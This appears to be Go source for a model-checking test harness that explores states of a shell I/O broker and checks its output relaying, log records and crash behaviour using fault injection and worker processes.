			for _, a := range w.attempts {
				if nil == a.r {
					continue
				}
				s := w.c03For(a)
				if strings.HasPrefix(string(s.supplied[len(s.shown):]), cl.Line) && "" != cl.Line {
					if h := a.halves["output"]; h.everAttached {
						owner = a
						break
					}
				}
			}
			if nil == owner {
				w.viol("C03", "output-not-prefix", fmt.Sprintf(
					"the operator was shown %q, which is not the next part of any attached shell's output%s", cl.Line, hist()))
				w.viol("C01", "output-not-from-attached", fmt.Sprintf(
					"the operator was shown %q, which no attached stream sent next%s", cl.Line, hist()))
				continue
			}
			s := w.c03For(owner)
			s.shown = append(s.shown, cl.Line...)
			if owner.id == w.lateOutA {
				w.viol("C01", "output-after-stream-ended", fmt.Sprintf(
					"the operator was shown %q, sent on the stream of a%d after its Connect call had returned (the stream is attached to nothing any more)%s", cl.Line, owner.id, hist()))
				w.viol("C03", "output-after-stream-ended", fmt.Sprintf(
					"the operator was shown %q, sent on the stream of a%d after its Connect call had returned%s", cl.Line, owner.id, hist()))
			}
			if s.closeSeen {
				w.viol("C03", "output-after-close-notice", fmt.Sprintf(
					"output of a%d shown after its 'connection closed' notice%s", owner.id, hist()))
			}
			continue
		}
		/* A non-plain notice never carries shell bytes. */
		if strings.Contains(cl.Line, "<chunk") {
			w.viol("C03", "output-in-notice", fmt.Sprintf("shell bytes inside a notice: %q%s", cl.Line, hist()))
		}
		for _, a := range w.attempts {
			if nil == a.r {
				continue
			}
			if strings.HasPrefix(cl.Line, fmt.Sprintf("[%s] Output connection closed", a.addr)) ||
				strings.HasPrefix(cl.Line, fmt.Sprintf("[%s] Output side of bidirectional connection closed", a.addr)) {
				s := w.c03For(a)
				s.closeSeen = true
				if "" != s.ended && !s.disturbed && string(s.shown) != string(s.supplied) {
					w.viol("C03", "output-incomplete-at-close/"+s.ended, fmt.Sprintf(
						"output stream of a%d ended by itself (%s) after sending %q but only %q was shown before the close notice%s",
						a.id, s.ended, s.supplied, s.shown, hist()))
				}
			}
		}
	}
	/* /io halves which end cleanly print no notice: completeness is
	then required once the half has parked in front of its release. */
	for _, a := range w.attempts {
		if nil == a.r || "io" != a.kind {
			continue
		}
		s := w.c03For(a)
		h := a.halves["output"]
		if "" != s.ended && !s.disturbed && !s.closeSeen && h.st >= hParkRelease && w.P.Roomy() && string(s.shown) != string(s.supplied) {
			w.viol("C03", "output-incomplete-at-close/io-"+s.ended, fmt.Sprintf(
				"output half of /io a%d ended by itself (%s) after sending %q but only %q was shown%s",
				a.id, s.ended, s.supplied, s.shown, hist()))
		}
	}
}

// checkLog checks C11 on the records of this step.
func (w *World) checkLog(st *Step, pre map[*half]halfSnap, hist func() string, conns bool) {
	var inRecs, outRecs []LogRec
	for _, r := range st.Logs {
		if iobroker.LMShellIO == r.Msg {
			switch r.Attrs[iobroker.LKDirection] {
			case "input":
				inRecs = append(inRecs, r)
			case "output":
				outRecs = append(outRecs, r)
			default:
				w.viol("C11", "io-record-without-direction", fmt.Sprintf("Shell I/O record without direction: %v%s", r.Attrs, hist()))
			}
		}
	}
	/* The program closes its log when Do has returned: a record written
	after that is a record lost. */
	if ds := w.doSeq.Load(); 0 != ds {
		for _, rc := range st.Logs {
			if rc.Seq > ds {
				w.viol("C11", "record-after-do-returned/"+rc.Msg, fmt.Sprintf("the record %q %v was written after Broker.Do had returned (the program closes its log file then)%s", rc.Msg, rc.Attrs, hist()))
			}
		}
	}
	/* Output: one record per chunk handed to the operator, same order. */
	var plains []string
	for _, cl := range st.Notices {
		if cl.Plain {
			plains = append(plains, cl.Line)
		}
	}
	if len(outRecs) != len(plains) {
		w.viol("C11", fmt.Sprintf("output-records/%d-for-%d-chunks", len(outRecs), len(plains)), fmt.Sprintf(
			"%d output records for %d chunks shown%s", len(outRecs), len(plains), hist()))
	} else {
		for i := range plains {
			if outRecs[i].Attrs[iobroker.LKData] != plains[i] {
				w.viol("C11", "output-record-data", fmt.Sprintf("record %q for chunk %q%s", outRecs[i].Attrs[iobroker.LKData], plains[i], hist()))
			}
		}
	}
	/* Input: one record per entry delivered (written and flushed) in this
	step, same order.  Delivered-in-this-step = new ok entries. */
	var newOK []string
	for _, a := range w.attempts {
		if nil == a.w {
			continue
		}
		n := w.c11Seen(a)
		for _, l := range a.linesGot[n:] {
			newOK = append(newOK, l+"\n")
		}
		w.c11Set(a, len(a.linesGot))
	}
	if len(inRecs) != len(newOK) {
		w.viol("C11", fmt.Sprintf("input-records/%d-for-%d-lines", len(inRecs), len(newOK)), fmt.Sprintf(
			"%d input records for %d lines delivered in this step%s", len(inRecs), len(newOK), hist()))
	} else {
		for i := range newOK {
			if inRecs[i].Attrs[iobroker.LKData] != newOK[i] {
				w.viol("C11", "input-record-data", fmt.Sprintf("record %q for line %q%s", inRecs[i].Attrs[iobroker.LKData], newOK[i], hist()))
			}
		}
	}
	/* The real JSON handler's view of the same records. */
	if w.P.JSONLog {
		js := w.lh.takeJSON()
		var lines []string
		if "" != js {
			lines = strings.Split(strings.TrimSuffix(js, "\n"), "\n")
		}
		if len(lines) != len(st.Logs) {
			w.viol("C11", "json-line-count", fmt.Sprintf("%d records produced %d lines of JSON log: %q%s", len(st.Logs), len(lines), js, hist()))
		} else {
			for i, l := range lines {
				var obj map[string]any
				if err := json.Unmarshal([]byte(l), &obj); nil != err {
					w.viol("C11", "json-unparsable", fmt.Sprintf("log line %q is not one JSON object: %v%s", l, err, hist()))
					continue
				}
				if obj["msg"] != st.Logs[i].Msg {
					w.viol("C11", "json-msg", fmt.Sprintf("log line %q has msg %v, record has %q%s", l, obj["msg"], st.Logs[i].Msg, hist()))
				}
				if d, ok := st.Logs[i].Attrs[iobroker.LKData]; ok {
					/* What JSON can represent of d. */
					enc, _ := json.Marshal(d)
					var want string
					json.Unmarshal(enc, &want)
					if got, _ := obj[iobroker.LKData].(string); got != want {
						w.viol("C11", "json-data", fmt.Sprintf("log line carries data %q for %q%s", got, d, hist()))
					}
				}
			}
		}
	}

	if !conns {
		return
	}
	/* Connection records. */
	count := func(msg string, a *attempt, dir string, lvl slog.Level) int {
		n := 0
		for _, r := range st.Logs {
			if r.Msg == msg && r.Attrs["attempt"] == fmt.Sprint(a.id) && r.Level == lvl &&
				("" == dir || r.Attrs[iobroker.LKDirection] == dir) {
				n++
			}
		}
		return n
	}
	if "admit" == st.Ev.Op {
		h := w.attempts[st.Ev.A].halves[st.Ev.Dir]
		if h.everAttached {
			if n := count(iobroker.LMNewConnection, h.a, h.dir, slog.LevelInfo); 1 != n {
				w.viol("C11", fmt.Sprintf("connect-record/%d", n), fmt.Sprintf("%d connect records for the accepted %s of a%d%s", n, h.dir, h.a.id, hist()))
			}
		} else if !h.mSilent {
			wantMsg := map[string]string{
				"missing":       iobroker.LMKeyMissing,
				"disconnecting": iobroker.LMDisconnecting,
				"already":       iobroker.LMAlreadyConnected,
				"wrongkey":      iobroker.LMIncorrectKey,
			}[h.mReason]
			dir := h.dir
			if "missing" == h.mReason {
				dir = "" /* Logged before the direction is attached to the logger. */
			}
			n := count(wantMsg, h.a, dir, slog.LevelError)
			if "otherio" == h.mReason {
				/* The statement asks for a record naming the reason;
				either wording fits this case. */
				n = count(iobroker.LMAlreadyConnected, h.a, dir, slog.LevelError) +
					count(iobroker.LMIncorrectKey, h.a, dir, slog.LevelError)
			}
			if 1 != n {
				w.viol("C11", "refusal-record/"+h.mReason, fmt.Sprintf(
					"%d error records %q for the refused %s of a%d; records of this step: %v%s", n, wantMsg, h.dir, h.a.id, st.Logs, hist()))
			}
		}
	}
	w.mu.Lock()
	for _, a := range w.attempts {
		for _, h := range a.halves {
			was := pre[h]
			ended := was.st < hParkRelease && h.st >= hParkRelease && h.everAttached
			n := count(iobroker.LMDisconnected, a, h.dir, slog.LevelInfo) + count(iobroker.LMDisconnected, a, h.dir, slog.LevelError)
			if ended && 1 != n {
				w.violLocked("C11", fmt.Sprintf("disconnect-record/%d", n), fmt.Sprintf("%d disconnect records for the ended %s of a%d%s", n, h.dir, a.id, hist()))
			}
			if !ended && 0 != n {
				w.violLocked("C11", "disconnect-record/unexpected", fmt.Sprintf("disconnect record for %s of a%d which did not end%s", h.dir, a.id, hist()))
			}
		}
	}
	w.mu.Unlock()
}

func (w *World) c11Seen(a *attempt) int   { return a.c11n }
func (w *World) c11Set(a *attempt, n int) { a.c11n = n }

// HistString renders a history.
func HistString(h []Event) string {
	var ss []string
	for _, e := range h {
		ss = append(ss, e.String())
	}
	return strings.Join(ss, " ")
}
