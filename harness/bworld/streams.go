package bworld

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"runtime"
	"sync"
	"sync/atomic"
)

// wop is one call seen by a writer.
type wop struct {
	Op   string /* W | F | FE */
	Data string
	Err  bool
}

// recWriter records every Write / Flush / FlushError call and can be told to
// fail the next one.
type recWriter struct {
	mu    sync.Mutex
	kind  int
	ops   []wop
	failW bool
	failF bool
	/* failLater: that many more writes succeed, then one fails (0: off). */
	failLater int
}

var errInjected = errors.New("injected transport failure")

func (r *recWriter) setFail(w, f bool) {
	r.mu.Lock()
	r.failW, r.failF = w, f
	r.mu.Unlock()
}

func (r *recWriter) setFailLater(n int) {
	r.mu.Lock()
	r.failLater = n
	r.mu.Unlock()
}

func (r *recWriter) write(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.failLater > 0 {
		if r.failLater--; 0 == r.failLater {
			r.failW = true /* The next one fails. */
		}
		r.ops = append(r.ops, wop{Op: "W", Data: string(p)})
		return len(p), nil
	}
	if r.failW {
		r.failW = false
		r.ops = append(r.ops, wop{Op: "W", Data: string(p), Err: true})
		return 0, errInjected
	}
	r.ops = append(r.ops, wop{Op: "W", Data: string(p)})
	return len(p), nil
}

func (r *recWriter) flush(op string) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.failF {
		r.failF = false
		r.ops = append(r.ops, wop{Op: op, Err: true})
		return errInjected
	}
	r.ops = append(r.ops, wop{Op: op})
	return nil
}

func (r *recWriter) snapshot() []wop {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]wop{}, r.ops...)
}

type plainW struct{ r *recWriter }

func (w plainW) Write(p []byte) (int, error) { return w.r.write(p) }

type flushW struct{ r *recWriter }

func (w flushW) Write(p []byte) (int, error) { return w.r.write(p) }
func (w flushW) Flush()                      { w.r.flush("F") }

type flushErrW struct{ r *recWriter }

func (w flushErrW) Write(p []byte) (int, error) { return w.r.write(p) }
func (w flushErrW) FlushError() error           { return w.r.flush("FE") }

type bothW struct{ r *recWriter }

func (w bothW) Write(p []byte) (int, error) { return w.r.write(p) }
func (w bothW) Flush()                      { w.r.flush("F") }
func (w bothW) FlushError() error           { return w.r.flush("FE") }

// iface returns the writer as the kind of io.Writer its profile asks for.
func (r *recWriter) iface() io.Writer {
	switch r.kind {
	case 1:
		return flushW{r}
	case 2:
		return flushErrW{r}
	case 3:
		return bothW{r}
	}
	return plainW{r}
}

// scriptReader parks every Read until the explorer supplies a result.
type scriptReader struct {
	mu      sync.Mutex
	parked  bool
	closed  bool
	reads   int /* Number of Read calls ever made. */
	rest    []byte
	restErr error
	ch      chan readRes
	closeCh chan struct{}
}

type readRes struct {
	data []byte
	err  error
}

func newScriptReader() *scriptReader {
	return &scriptReader{ch: make(chan readRes), closeCh: make(chan struct{})}
}

func (r *scriptReader) Read(p []byte) (int, error) {
	r.mu.Lock()
	r.reads++
	if len(r.rest) > 0 || nil != r.restErr {
		n := copy(p, r.rest)
		r.rest = r.rest[n:]
		var err error
		if 0 == len(r.rest) {
			err = r.restErr
			r.restErr = nil
		}
		r.mu.Unlock()
		return n, err
	}
	if r.closed {
		r.mu.Unlock()
		return 0, io.ErrClosedPipe
	}
	r.parked = true
	r.mu.Unlock()
	var res readRes
	select {
	case res = <-r.ch:
	case <-r.closeCh:
		res = readRes{err: io.ErrClosedPipe}
	}
	r.mu.Lock()
	r.parked = false
	n := copy(p, res.data)
	err := res.err
	if n < len(res.data) {
		r.rest = res.data[n:]
		r.restErr = res.err
		err = nil
	}
	r.mu.Unlock()
	return n, err
}

func (r *scriptReader) supply(data []byte, err error) { r.ch <- readRes{data, err} }

func (r *scriptReader) close() {
	r.mu.Lock()
	if !r.closed {
		r.closed = true
		close(r.closeCh)
	}
	r.mu.Unlock()
}

func (r *scriptReader) isParked() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.parked && !r.closed
}

func (r *scriptReader) nReads() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.reads
}

func (r *scriptReader) state() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return fmt.Sprintf("p%vc%vr%d", r.parked, r.closed, len(r.rest))
}

// LogRec is one captured slog record with the attributes of its logger.
type LogRec struct {
	Level slog.Level
	Msg   string
	Attrs map[string]string
	Seq   int64 /* Global order of completion (see seq). */
}

// seq orders log records and the return of Broker.Do.
var seq atomic.Int64

// yieldInHandle makes the capturing handler give up the processor before it
// stores a record, as a handler writing to a file may.
var yieldInHandle = true

type logStore struct {
	mu   sync.Mutex
	gate func(rec LogRec) /* May park the logging goroutine (a slow log). */
	recs []LogRec
	json *bytes.Buffer /* Output of a real JSON handler, if wanted. */
}

// logHandler is a capturing slog.Handler.
type logHandler struct {
	st    *logStore
	attrs []slog.Attr
	jh    slog.Handler
}

func newLogHandler(withJSON bool) *logHandler {
	h := &logHandler{st: &logStore{}}
	if withJSON {
		h.st.json = new(bytes.Buffer)
		h.jh = slog.NewJSONHandler(h.st.json, nil)
	}
	return h
}

// takeJSON returns what the JSON handler wrote since the last call.
func (h *logHandler) takeJSON() string {
	h.st.mu.Lock()
	defer h.st.mu.Unlock()
	if nil == h.st.json {
		return ""
	}
	s := h.st.json.String()
	h.st.json.Reset()
	return s
}

func (h *logHandler) Enabled(context.Context, slog.Level) bool { return true }

func (h *logHandler) Handle(_ context.Context, r slog.Record) error {
	rec := LogRec{Level: r.Level, Msg: r.Message, Attrs: map[string]string{}}
	for _, a := range h.attrs {
		rec.Attrs[a.Key] = a.Value.String()
	}
	r.Attrs(func(a slog.Attr) bool {
		rec.Attrs[a.Key] = a.Value.String()
		return true
	})
	if g := h.st.gate; nil != g {
		g(rec)
	}
	if yieldInHandle {
		runtime.Gosched()
		runtime.Gosched()
	}
	rec.Seq = seq.Add(1)
	h.st.mu.Lock()
	h.st.recs = append(h.st.recs, rec)
	if nil != h.jh {
		h.jh.Handle(context.Background(), r)
	}
	h.st.mu.Unlock()
	return nil
}

func (h *logHandler) WithAttrs(as []slog.Attr) slog.Handler {
	n := &logHandler{st: h.st, attrs: append(append([]slog.Attr{}, h.attrs...), as...)}
	if nil != h.jh {
		n.jh = h.jh.WithAttrs(as)
	}
	return n
}

func (h *logHandler) WithGroup(string) slog.Handler { return h }

func (h *logHandler) take() []LogRec {
	h.st.mu.Lock()
	defer h.st.mu.Unlock()
	r := h.st.recs
	h.st.recs = nil
	return r
}
