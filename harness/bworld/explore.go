package bworld

/*
 * explore.go
 * Explicit-state breadth-first search over the broker world.  A state is
 * the event history which reaches it; successors are produced by replaying
 * the history on a fresh real broker and applying one more event; states are
 * deduplicated by World.Canon().  Work is sharded over worker processes
 * (GOMAXPROCS=1 each, because quiescence is a per-process notion).
 */

import (
	"bufio"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"runtime"
	"runtime/debug"
	"sort"
	"strings"
	"sync"
	"time"
)

// task is what the master sends a worker.
type task struct {
	Profile *Profile `json:"profile,omitempty"` /* First message only. */
	Hist    []Event  `json:"hist"`
	Canons  []string `json:"canons,omitempty"` /* Expected canon hash after each step. */
	Confirm bool     `json:"confirm,omitempty"`
	Quit    bool     `json:"quit,omitempty"`
}

// succ is one successor.
type succ struct {
	Ev    Event  `json:"ev"`
	Canon string `json:"canon"`
}

// reply is what a worker answers.
type reply struct {
	Canons  []string `json:"canons"` /* Canon hash after each step of the history. */
	Succ    []succ   `json:"succ"`
	Viols   []RViol  `json:"viols"`
	Execs   int      `json:"execs"`
	Steps   int      `json:"steps"`
	Err     string   `json:"err,omitempty"`
	Recycle bool     `json:"recycle,omitempty"`
	/* Unstable: replaying the recorded prefix kept ending in another state
	than recorded.  Happens (rarely) when the operating system suspends the
	worker thread inside a "simultaneous" pair of actions and Go's monitor
	then preempts the harness goroutine between the two; the state that was
	recorded is then the one of the sequential order, which is explored
	anyway.  The master drops such nodes and counts them. */
	Unstable bool `json:"unstable,omitempty"`
	/* Crashed: the worker process died while running this task (set by the
	master); the text is the panic it printed. */
	Crashed string `json:"crashed,omitempty"`
}

func firstLines(s string, n int) string {
	ls := strings.SplitN(s, "\n", n+1)
	if len(ls) > n {
		ls = ls[:n]
	}
	return strings.Join(ls, "\n")
}

// replayRetries is how often a diverging replay is retried.
const replayRetries = 4

// RViol is a violation with the history that shows it.
type RViol struct {
	Prop string  `json:"prop"`
	Sig  string  `json:"sig"`
	What string  `json:"what"`
	Hist []Event `json:"hist"`
}

func hashCanon(c string) string {
	h := sha256.Sum256([]byte(c))
	return fmt.Sprintf("%x", h[:10])
}

// RunHistory executes hist on a fresh world.  If expect is not nil the canon
// after every step is compared with it.  Returns the world (closed), the
// canon hashes and whether replay diverged.
func RunHistory(p *Profile, hist []Event, expect []string, trace io.Writer) (w *World, canons []string, err error) {
	w = New(p)
	defer func() {
		if r := recover(); nil != r {
			neverSettles(r)
			err = fmt.Errorf("panic during %s: %v", HistString(hist), r)
		}
	}()
	for i, e := range hist {
		if !eventEnabled(w, e) {
			w.Close()
			return w, canons, fmt.Errorf("divergence: event %s (step %d) is not enabled when replaying %s", e, i, HistString(hist))
		}
		st := w.Do(e)
		c := w.Canon()
		canons = append(canons, hashCanon(c))
		if nil != trace {
			fmt.Fprintf(trace, "step %d: %s\n", i, e)
			for _, cl := range st.Notices {
				kind := "notice"
				if cl.Plain {
					kind = "plain "
				}
				fmt.Fprintf(trace, "    %s %q\n", kind, cl.Line)
			}
			for _, l := range st.Logs {
				fmt.Fprintf(trace, "    log    %s %q %v\n", l.Level, l.Msg, l.Attrs)
			}
			for _, ev := range st.Events {
				fmt.Fprintf(trace, "    event  %s\n", ev.Type)
			}
			for _, id := range st.Returned {
				fmt.Fprintf(trace, "    return a%d\n", id)
			}
			if st.DoRet {
				fmt.Fprintf(trace, "    return Broker.Do\n")
			}
			for _, a := range w.attempts {
				if nil != a.w {
					if ops := a.w.snapshot(); 0 != len(ops) {
						fmt.Fprintf(trace, "    writer a%d: %v\n", a.id, ops)
					}
				}
			}
			fmt.Fprintf(trace, "    state  %s\n", c)
		}
		if nil != expect && i < len(expect) && expect[i] != canons[i] {
			w.Close()
			return w, canons, fmt.Errorf("divergence: canon after step %d (%s) differs from the recorded one when replaying %s: now %s", i, e, HistString(hist), c)
		}
	}
	return w, canons, nil
}

func eventEnabled(w *World, e Event) bool {
	for _, x := range w.Enabled() {
		if x == e {
			return true
		}
	}
	return false
}

// expand runs one task in this process.
func expand(p *Profile, t task) (rp reply) {
	addViols := func(w *World) {
		for _, v := range w.Viols {
			rp.Viols = append(rp.Viols, RViol{Prop: v.Prop, Sig: v.Sig, What: v.What, Hist: append([]Event{}, w.Hist...)})
		}
	}
	var (
		w      *World
		canons []string
		err    error
	)
	for try := 0; ; try++ {
		w, canons, err = RunHistory(p, t.Hist, t.Canons, nil)
		rp.Execs++
		rp.Steps += len(t.Hist)
		if nil == err {
			break
		}
		if try < replayRetries && strings.HasPrefix(err.Error(), "divergence") {
			continue
		}
		if strings.HasPrefix(err.Error(), "divergence") {
			rp.Unstable = true
			rp.Err = err.Error()
			return
		}
		rp.Err = err.Error()
		return
	}
	rp.Canons = canons
	evs := w.Enabled()
	leaked := w.Close()
	addViols(w)
	if t.Confirm {
		return
	}
	if p.MaxDepth > 0 && len(t.Hist) >= p.MaxDepth {
		evs = nil
	}
	for _, e := range evs {
		var w2 *World
		for try := 0; ; try++ {
			w2, _, err = RunHistory(p, t.Hist, canons, nil)
			rp.Execs++
			rp.Steps += len(t.Hist) + 1
			if nil == err || try >= replayRetries || !strings.HasPrefix(err.Error(), "divergence") {
				break
			}
		}
		if nil != err {
			if strings.HasPrefix(err.Error(), "divergence") {
				rp.Unstable = true
			}
			rp.Err = err.Error()
			return
		}
		var c string
		func() {
			defer func() {
				if r := recover(); nil != r {
					neverSettles(r)
					rp.Err = fmt.Sprintf("panic during %s %s: %v", HistString(t.Hist), e, r)
				}
			}()
			w2.Do(e)
			c = w2.Canon()
		}()
		if "" != rp.Err {
			return
		}
		leaked += w2.Close()
		addViols(w2)
		rp.Succ = append(rp.Succ, succ{Ev: e, Canon: c})
	}
	if leaked > 0 {
		rp.Recycle = true
	}
	return
}

// WorkerMain is the worker side: tasks on stdin, replies on stdout.
func WorkerMain() int {
	runtime.GOMAXPROCS(1)
	/* Collections happen between tasks, never inside a step. */
	debug.SetGCPercent(-1)
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	out := bufio.NewWriter(os.Stdout)
	var p *Profile
	nTasks := 0
	dec := json.NewDecoder(in)
	enc := json.NewEncoder(out)
	for {
		var t task
		if err := dec.Decode(&t); nil != err {
			return 0
		}
		if t.Quit {
			return 0
		}
		if nil != t.Profile {
			p = t.Profile
		}
		rp := expand(p, t)
		if nTasks++; 0 == nTasks%50 {
			runtime.GC()
		}
		if err := enc.Encode(rp); nil != err {
			return 2
		}
		out.Flush()
		if rp.Recycle {
			return 0
		}
	}
}

// tailBuf keeps the last few KiB written to it (a worker's stderr).
type tailBuf struct {
	mu sync.Mutex
	b  []byte
}

func (t *tailBuf) Write(p []byte) (int, error) {
	t.mu.Lock()
	t.b = append(t.b, p...)
	if len(t.b) > 8192 {
		t.b = t.b[len(t.b)-8192:]
	}
	t.mu.Unlock()
	os.Stderr.Write(p)
	return len(p), nil
}

func (t *tailBuf) String() string { t.mu.Lock(); defer t.mu.Unlock(); return string(t.b) }

// worker is the master's handle on one worker process.
type worker struct {
	bin  string
	p    *Profile
	errb *tailBuf
	cmd  *exec.Cmd
	in   io.WriteCloser
	enc  *json.Encoder
	dec  *json.Decoder
	sent bool
}

func (wk *worker) spawn() error {
	wk.cmd = exec.Command(wk.bin, "worker", "bworld")
	wk.errb = &tailBuf{}
	wk.cmd.Stderr = wk.errb
	wk.cmd.Env = append(os.Environ(), "GOMAXPROCS=1")
	in, err := wk.cmd.StdinPipe()
	if nil != err {
		return err
	}
	out, err := wk.cmd.StdoutPipe()
	if nil != err {
		return err
	}
	if err := wk.cmd.Start(); nil != err {
		return err
	}
	wk.in = in
	wk.enc = json.NewEncoder(in)
	wk.dec = json.NewDecoder(bufio.NewReaderSize(out, 1<<20))
	wk.sent = false
	return nil
}

func (wk *worker) do(t task) (reply, error) {
	if nil == wk.cmd {
		if err := wk.spawn(); nil != err {
			return reply{}, err
		}
	}
	if !wk.sent {
		t.Profile = wk.p
		wk.sent = true
	}
	if err := wk.enc.Encode(t); nil != err {
		return reply{}, fmt.Errorf("worker write: %w", err)
	}
	var rp reply
	if err := wk.dec.Decode(&rp); nil != err {
		/* The worker died: the program under test crashed the process (a
		panic in one of its goroutines cannot be caught).  Say what it
		printed. */
		wk.cmd.Wait()
		crash := wk.errb.String()
		wk.cmd = nil
		if i := strings.Index(crash, "panic: "); i >= 0 {
			crash = crash[i:]
		} else if i := strings.Index(crash, "fatal error: "); i >= 0 {
			crash = crash[i:]
		}
		return reply{Crashed: firstLines(crash, 12)}, nil
	}
	if rp.Recycle {
		wk.stop()
	}
	return rp, nil
}

func (wk *worker) stop() {
	if nil != wk.cmd {
		wk.in.Close()
		wk.cmd.Wait()
		wk.cmd = nil
	}
}

// Result is what an exploration covered.
type Result struct {
	States          int
	Transitions     int
	Execs           int
	Steps           int
	MaxDepth        int
	Exhaustive      bool
	CapNote         string
	Viols           []RViol /* Shortest history per (prop, signature). */
	Samples         []string
	Confirmed       int /* Histories re-run to confirm determinism. */
	PerDepth        []int
	Unconfirmed     int /* Violations seen once that reproduced in fewer than 2 of 5 replays: not reported. */
	UnconfirmedNote string
	Unstable        int /* Nodes dropped because their prefix would not replay (see reply.Unstable). */
	UnstableNote    string
}

// Explore runs the BFS for profile p with nproc worker processes, stopping
// cleanly at the deadline.
func Explore(p *Profile, nproc int, deadline time.Time) (*Result, error) {
	bin, err := os.Executable()
	if nil != err {
		return nil, err
	}
	wks := make([]*worker, nproc)
	for i := range wks {
		wks[i] = &worker{bin: bin, p: p}
	}
	defer func() {
		for _, wk := range wks {
			wk.stop()
		}
	}()

	type node struct {
		hist   []Event
		canons []string
	}
	res := &Result{Exhaustive: true}
	seen := map[string]bool{}
	best := map[string]RViol{}
	crashed := map[string]bool{} /* Violations that are crashes (confirmed when found). */
	frontier := []node{{}}
	/* The initial state. */
	depth := 0
	var firstErr error
	for len(frontier) > 0 {
		if time.Now().After(deadline) {
			res.Exhaustive = false
			res.CapNote = fmt.Sprintf("time cap reached at depth %d with %d states pending; all states up to depth %d were expanded", depth, len(frontier), depth-1)
			break
		}
		res.PerDepth = append(res.PerDepth, len(frontier))
		var (
			mu   sync.Mutex
			next []node
			wg   sync.WaitGroup
			idx  int
			stop bool
		)
		for _, wk := range wks {
			wk := wk
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					mu.Lock()
					if idx >= len(frontier) || nil != firstErr || stop {
						mu.Unlock()
						return
					}
					if 0 == idx%64 && time.Now().After(deadline) {
						stop = true
						mu.Unlock()
						return
					}
					n := frontier[idx]
					idx++
					mu.Unlock()
					rp, err := wk.do(task{Hist: n.hist, Canons: n.canons})
					mu.Lock()
					if nil == err && "" != rp.Crashed {
						/* Once more on a fresh worker: a crash that
						repeats is the program's. */
						rp2, err2 := wk.do(task{Hist: n.hist, Canons: n.canons})
						if nil == err2 && "" != rp2.Crashed {
							sig := "program-crashed/" + strings.SplitN(rp.Crashed, "\n", 2)[0]
							for _, pr := range wk.p.Oracles {
								k := pr + "|" + sig
								if b, ok := best[k]; !ok || len(n.hist) < len(b.Hist) {
									best[k] = RViol{Prop: pr, Sig: sig, What: "the program crashed while (or one event after) " + HistString(n.hist) + ": " + rp.Crashed, Hist: n.hist}
									crashed[k] = true
								}
							}
							mu.Unlock()
							continue
						}
						rp, err = rp2, err2
					}
					if nil == err && rp.Unstable {
						res.Unstable++
						res.UnstableNote = rp.Err
						res.Execs += rp.Execs
						mu.Unlock()
						continue
					}
					if nil == err && "" != rp.Err {
						err = fmt.Errorf("%s", rp.Err)
					}
					if nil != err {
						if nil == firstErr {
							firstErr = err
						}
						mu.Unlock()
						return
					}
					res.Execs += rp.Execs
					res.Steps += rp.Steps
					for _, v := range rp.Viols {
						k := v.Prop + "|" + v.Sig
						if b, ok := best[k]; !ok || len(v.Hist) < len(b.Hist) {
							best[k] = v
						}
					}
					for _, s := range rp.Succ {
						res.Transitions++
						hc := hashCanon(s.Canon)
						if seen[hc] {
							continue
						}
						seen[hc] = true
						if len(res.Samples) < 6 && 0 == (res.States%97) {
							res.Samples = append(res.Samples, HistString(append(append([]Event{}, n.hist...), s.Ev))+"  =>  "+s.Canon)
						}
						res.States++
						next = append(next, node{
							hist:   append(append([]Event{}, n.hist...), s.Ev),
							canons: append(append([]string{}, rp.Canons...), hc),
						})
					}
					mu.Unlock()
				}
			}()
		}
		wg.Wait()
		if nil != firstErr {
			return res, firstErr
		}
		if stop {
			res.Exhaustive = false
			res.CapNote = fmt.Sprintf("time cap reached while expanding depth %d (%d of %d states expanded); all states up to depth %d were expanded", depth, idx, len(frontier), depth-1)
			break
		}
		frontier = next
		depth++
		res.MaxDepth = depth
	}
	res.States++ /* The initial state. */

	/* Confirm every violation: the same history must fail the same way
	five times on fresh worlds. */
	var keys []string
	for k := range best {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		v := best[k]
		if crashed[k] {
			res.Viols = append(res.Viols, v)
			continue
		}
		hits := 0
		for i := 0; i < 5; i++ {
			rp, err := wks[0].do(task{Hist: v.Hist, Confirm: true})
			if nil != err {
				return res, err
			}
			for _, x := range rp.Viols {
				if x.Prop == v.Prop && x.Sig == v.Sig {
					hits++
					break
				}
			}
		}
		res.Confirmed++
		switch {
		case 5 == hits:
			res.Viols = append(res.Viols, v)
		case hits >= 2:
			/* Seen when found and at least twice more on fresh brokers, but
			not every time: the program itself chooses (a select with
			several ready cases).  One failing schedule is a violation. */
			v.What = fmt.Sprintf("[intermittent: %d of 5 replays of the same history show it; the program's own scheduling decides] %s", hits, v.What)
			res.Viols = append(res.Viols, v)
		default:
			res.Unconfirmed++
			res.UnconfirmedNote = fmt.Sprintf("%s after %s reproduced in %d of 5 replays", k, HistString(v.Hist), hits)
		}
	}
	if res.Unstable > 2+res.States/500 {
		if 0 == len(res.Viols) {
			return res, fmt.Errorf("harness nondeterminism: %d of %d states would not replay; last: %s", res.Unstable, res.States, res.UnstableNote)
		}
		/* The program under test misbehaves and is not deterministic about
		it: what was confirmed is reported, the rest of the space was not
		covered. */
		res.Exhaustive = false
		res.CapNote = fmt.Sprintf("%d of %d states would not replay (the program's behaviour is not a function of the history); %s", res.Unstable, res.States, res.CapNote)
	}
	return res, nil
}

// neverSettles ends the process if r says that the world did not come to rest
// within 30 s: some goroutine of the program keeps running (a loop that no
// longer blocks).  The process cannot be used any further; its death with
// this message is what the parent reports, like any other crash of the
// program under test (twice on the same history = a violation).
func neverSettles(r any) {
	if s := fmt.Sprint(r); strings.Contains(s, "world does not settle") {
		fmt.Fprintln(os.Stderr, "panic: "+s)
		os.Exit(2)
	}
}
