// Package rcall calls the repository's constructors through reflection, so
// that the harness still builds when one of them has grown a parameter (a
// feature that is off at its zero value): the arguments the harness knows are
// passed in order, any further parameter gets its zero value.  A parameter
// whose type no longer fits also gets its zero value; a constructor that has
// lost parameters gets the first ones only.
package rcall

